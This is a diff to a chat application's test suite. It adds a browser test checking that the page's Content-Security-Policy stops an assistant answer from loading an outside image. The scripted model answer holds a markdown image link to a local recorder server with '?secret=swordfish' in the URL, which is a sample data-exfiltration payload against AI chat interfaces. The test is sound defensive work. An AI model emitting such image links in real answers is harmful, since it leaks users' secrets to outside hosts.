@@ -12,9 +12,11 @@ from __future__ import annotations
 
 import asyncio
 import concurrent.futures
+import http.server
 import json
 import re
 import shutil
+import threading
 import time
 import uuid
 from collections.abc import Callable, Coroutine, Iterator
@@ -854,6 +856,41 @@ def test_another_user_cannot_open_the_session_or_its_files(
     response = bob_context.request.get(f"{chat_server.url}/assistants/files/{file_id}")
     assert response.status == 404
     assert b"1000000" not in response.body()
+
+
+def test_an_answer_cannot_make_the_browser_fetch_an_outside_image(chat_server: Server, page: Page, model: ScriptedModel) -> None:
+    hits: list[str] = []
+
+    class Recorder(http.server.BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            hits.append(self.path)
+            self.send_response(200)
+            self.send_header("content-type", "image/png")
+            self.end_headers()
+
+        def log_message(self, *args: Any) -> None:
+            pass
+
+    outside = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
+    threading.Thread(target=outside.serve_forever, daemon=True).start()
+    try:
+        leak = f"http://127.0.0.1:{outside.server_address[1]}/leak.png?secret=swordfish"
+        # The page itself is served with the policy that forbids it.
+        policy = httpx.get(chat_server.url + "/", timeout=10).headers["content-security-policy"]
+        assert "img-src 'self' data: blob:" in policy
+        name, password = new_user(chat_server, "exfil")
+        login(page, chat_server, name, password)
+        model.add_text(f"Here is a picture ![chart]({leak}) for you.")
+        send(page, "Show me something")
+        answer = messages(page, "assistant_message").filter(has_text="Here is a picture")
+        expect(answer).to_be_visible()
+        # The image element is in the page: without the policy the browser would have fetched it.
+        expect(answer.locator(f'img[src="{leak}"]')).to_have_count(1)
+        time.sleep(1.0)
+        assert hits == []
+    finally:
+        outside.shutdown()
+        outside.server_close()
 
 
 # 9. Provider failure ---------------------------------------------------------------------------
